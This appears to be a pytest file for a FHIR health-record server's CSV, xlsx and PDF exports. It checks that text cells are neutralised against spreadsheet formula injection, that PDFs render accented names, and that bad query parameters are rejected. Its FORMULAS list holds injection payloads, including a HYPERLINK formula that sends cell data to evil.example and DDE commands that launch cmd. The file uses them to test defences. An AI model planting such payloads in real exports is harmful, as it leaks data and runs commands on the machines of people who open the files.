"""Review of the human-readable exports (issue 18): text a patient or a colleague wrote must
reach a spreadsheet as text, never as a formula (CSV/formula injection, OWASP): a CSV cell
beginning with = + - @ (or a tab or carriage return) is prefixed with an apostrophe, and an
xlsx cell holding such text is a string cell, shown as typed, never a formula."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from fhir_server.privacy.exports import pdf
from fhir_server.privacy.exports.content import Record

from tests.builders import patient
from tests.http.helpers import send
from tests.trials.conftest import DR, Platform, platform  # noqa: F401 (fixture)

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Voir")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def poisoned(platform: Platform) -> Platform:  # noqa: F811
    """Patient `leaving` renamed to a formula and referred; a Condition per formula."""
    client = platform.client
    body = {**patient(given="Léa"), "id": "leaving"}
    body["name"][0]["text"] = FORMULAS[0]  # what the exports call the patient
    assert send(client, "PUT", "/fhir/Patient/leaving", body).status_code == 200
    for n, text in enumerate(FORMULAS):
        condition = {"resourceType": "Condition", "id": f"leaving-f{n}", "code": {"text": text},
                     "subject": {"reference": "Patient/leaving"}, "onsetDateTime": "2024-02-0" + str(n + 1)}
        assert send(client, "PUT", f"/fhir/Condition/leaving-f{n}", condition).status_code == 201
    assert platform.refer("leaving").status_code == 201
    return platform


def _csv_files(platform: Platform) -> dict[str, list[list[str]]]:
    response = platform.client.get("/fhir/Patient/leaving/$record-export?format=csv",
                                   headers=platform.headers("patient", "leaving"))
    assert response.status_code == 200, response.text
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    return {name: list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))))
            for name in archive.namelist()}


def test_no_csv_cell_begins_as_a_formula(poisoned: Platform) -> None:
    files = _csv_files(poisoned)
    cells = [cell for rows in files.values() for row in rows for cell in row]
    assert [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")] == []
    assert [c for c in cells if c.startswith("-") and not _number(c)] == []
    conditions = files["Condition.csv"]
    texts = {row[conditions[0].index("code.text")] for row in conditions[1:]}
    # Neutralised, not lost: the apostrophe, then the text as written.
    assert {f"'{text}" for text in FORMULAS} <= texts


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_numbers_stay_numbers_in_the_csv(poisoned: Platform) -> None:
    client = poisoned.client
    body = {"resourceType": "Observation", "id": "leaving-neg", "status": "final",
            "code": {"text": "Base excess"}, "subject": {"reference": "Patient/leaving"},
            "valueQuantity": {"value": -3.5, "unit": "mmol/L"}}
    assert send(client, "PUT", "/fhir/Observation/leaving-neg", body).status_code == 201
    rows = _csv_files(poisoned)["Observation.csv"]
    row = next(r for r in rows if "leaving-neg" in r)
    assert row[rows[0].index("valueQuantity.value")] == "-3.5"


def test_no_xlsx_cell_is_a_formula(poisoned: Platform) -> None:
    response = poisoned.client.get(f"/fhir/{DR}/$referrals-export?format=xlsx",
                                   headers=poisoned.headers("physician"))
    assert response.status_code == 200, response.text
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        sheets = [book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells: list[Any] = [cell for row in sheet.iter_rows() for cell in row]
    named = [c for c in cells if isinstance(c.value, str) and FORMULAS[0] in c.value]
    assert named, "the patient's name is in the sheet"
    for cell in named:
        assert cell.data_type == "s"
        assert cell.quotePrefix  # shown as typed, and kept as text when edited


def test_the_pdf_prints_every_letter_of_a_european_name() -> None:
    """Helvetica's WinAnsi has the French letters only: Łucja Wąsowska, Ștefan Țurcanu, Győző
    Kővári or Nguyễn printed with black boxes in place of letters."""
    names = "Łucja Wąsowska, Ștefan Țurcanu, Győző Kővári, Nguyễn Văn Ánh, Œdipe Françoise"
    person = {"resourceType": "Patient", "id": "x", "name": [{"text": names}], "birthDate": "1990-01-01"}
    illness = {"resourceType": "Condition", "id": "c", "code": {"text": "Œdème — « aigu »"},
               "onsetDateTime": "2024-01-01"}
    rendered = pdf.render(Record(person, {"Patient": [person], "Condition": [illness]}), "fr",
                          "Patient/x", "2026-12-06")
    text = " ".join(page.extract_text() or "" for page in PdfReader(io.BytesIO(rendered)).pages)
    assert "■" not in text
    assert names in " ".join(text.split())
    assert "Œdème — « aigu »" in text


@pytest.mark.parametrize("query, expression", [
    ("format=pdf&format=csv", "format"),  # which one? not the last one silently
    ("format=pdf&language=fr&language=en", "language"),
    ("format=pdf&langage=en", "langage"),  # a misspelt parameter is not ignored
])
def test_a_parameter_given_twice_or_unknown_is_400(poisoned: Platform, query: str, expression: str) -> None:
    response = poisoned.client.get(f"/fhir/Patient/leaving/$record-export?{query}",
                                   headers=poisoned.headers("patient", "leaving"))
    assert response.status_code == 400, response.text
    assert response.json()["issue"][0]["expression"] == [expression]
    response = poisoned.client.get(f"/fhir/{DR}/$referrals-export?{query.replace('pdf', 'xlsx')}",
                                   headers=poisoned.headers("physician"))
    assert response.status_code == 400, response.text
    assert response.json()["issue"][0]["expression"] == [expression]


def test_a_control_character_in_a_name_does_not_break_the_sheet(poisoned: Platform) -> None:
    """FHIR strings SHOULD avoid control characters, and the server takes them; the sheet
    cannot hold them (openpyxl refused the whole file: 500). Each shows as U+FFFD."""
    client = poisoned.client
    body = {**patient(given="Minor"), "id": "minor"}
    body["name"][0]["text"] = "Jean\u0001Dupont\u001b[31m"
    assert send(client, "PUT", "/fhir/Patient/minor", body).status_code == 200
    assert poisoned.refer("minor").status_code == 201
    response = client.get(f"/fhir/{DR}/$referrals-export?format=xlsx", headers=poisoned.headers("physician"))
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    assert "Jean\ufffdDupont\ufffd[31m" in [cell.value for row in sheet.iter_rows() for cell in row]
